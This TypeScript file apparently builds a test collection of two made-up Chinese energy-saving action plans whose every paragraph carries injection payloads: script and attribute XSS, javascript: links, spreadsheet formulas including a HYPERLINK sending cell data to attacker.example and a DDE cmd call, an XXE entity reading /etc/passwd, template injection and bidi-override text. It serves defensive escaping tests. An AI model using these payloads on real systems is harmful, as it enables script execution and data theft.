/** A collection of two made-up texts full of what could do harm where a text is shown or read. */
import { createHash } from 'node:crypto';
import { cpSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stringify } from 'yaml';

/** What would run, break out or turn round; each is a paragraph of the texts. */
export const HOSTILE = {
  script: '</script><script>globalThis.ran=1</script></style></title></textarea>',
  image: '<img src=x onerror="globalThis.ran=2"><svg onload=globalThis.ran=3>',
  attribute: `" onmouseover="globalThis.ran=4" x='`,
  formula: '=HYPERLINK("http://attacker.example/?"&A1,"打开")',
  command: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|0',
  section: ']]>&lt;!ENTITY x SYSTEM "file:///etc/passwd">',
  template: '{{constructor.constructor("globalThis.ran=5")()}}${globalThis.ran=6}<%= 7 %>',
  lines: '甲\u2028ATTACH:evil\u2029END:VCALENDAR;,\\',
  link: '[点此](javascript:globalThis.ran=7) <a href="javascript:globalThis.ran=8">x</a>',
  override: '节能\u202e万003元奖补\u202c与\u2066隔离\u2069',
  control: '响铃\u0007退格\u0008转义\u001b[31m红',
  invisible: '零\u200b宽\u200d与\u00ad软连字',
  arabic: 'توفير الطاقة 25%',
} as const;

const TITLE = '甲市“</title><script>globalThis.ran=9</script>”节能行动方案';

interface Made {
  readonly id: string;
  readonly level: string;
  readonly region: string;
  readonly title: string;
}

/** A text whose every paragraph holds something hostile beside something that is read. */
function bodyOf(title: string, target: string): string[] {
  const bad = Object.values(HOSTILE);
  return [
    title,
    '',
    `为推进节能降碳，制定本方案。${HOSTILE.script}`,
    '',
    `一、主要目标${HOSTILE.image}`,
    '',
    `到2025年，规模以上单位工业增加值能耗较2020年下降${target}以上${HOSTILE.script}，建成绿色工厂50家${HOSTILE.attribute}。${HOSTILE.lines}。`,
    '',
    ...bad.flatMap((text, i) => [`（${'一二三四五六七八九十甲乙丙丁'.charAt(i)}）${text}`, '']),
    '二、重点任务',
    '',
    ...bad.flatMap((text, i) => [
      `${i + 1}.推进改造。对年节能量10吨标准煤以上的项目给予${i + 1}万元补助。${text}（责任单位：市发展改革委${HOSTILE.formula}、市财政局）`,
      '',
    ]),
    `依据《关于${HOSTILE.attribute}节能的意见${HOSTILE.script}》执行。`,
  ];
}

/** Write the collection below `root`; vocabularies are those of `corpus`. */
export function writeHostileCollection(root: string, corpus: string): void {
  for (const name of ['documents', 'sources', 'review', 'references'])
    mkdirSync(join(root, name), { recursive: true });
  cpSync(join(corpus, 'vocabulary'), join(root, 'vocabulary'), { recursive: true });
  for (const name of ['errata.yaml', 'left-out.yaml']) writeFileSync(join(root, name), '[]\n');
  const documents: Made[] = [
    { id: 'hostile-province', level: 'provincial', region: '330000', title: `=1+1${TITLE}` },
    { id: 'hostile-city', level: 'city', region: '330300', title: TITLE },
  ];
  for (const [index, { id, level, region, title }] of documents.entries()) {
    const lines = bodyOf(title, `${16 + index}%`);
    const source = `${lines.join('\n')}\n`;
    const file = `${id}.txt`;
    writeFileSync(join(root, 'sources', file), source);
    const front = {
      ...{
        id,
        title,
        shortTitle: `<b>${HOSTILE.at}`.slice(0, 20),
        titleEn: HOSTILE.attribute,
        kind: 'action-plan',
      },
      ...{
        role: 'policy',
        level,
        region,
        issuers: [HOSTILE.at, HOSTILE.image],
        documentNumber: `"><i>〔2022〕1号`,
      },
      ...{ issuedOn: '2022-06', effectiveFrom: null, effectiveTo: null, period: null, abridged: false },
      rights: HOSTILE.script,
      bases: [{ title: HOSTILE.script, documentId: null }],
      ...{ about: [], notInSource: ['documentNumber', 'issuedOn', 'issuers'] },
      source: {
        file,
        startLine: 1,
        // U+2028 and U+2029 end lines too; the last line end opens none.
        endLine: source.split(/[\n\u2028\u2029]/u).length - 1,
        sha256: createHash('sha256').update(source).digest('hex'),
      },
    };
    writeFileSync(join(root, 'documents', `${id}.md`), `---\n${stringify(front)}---\n\n# ${source}`);
  }
}
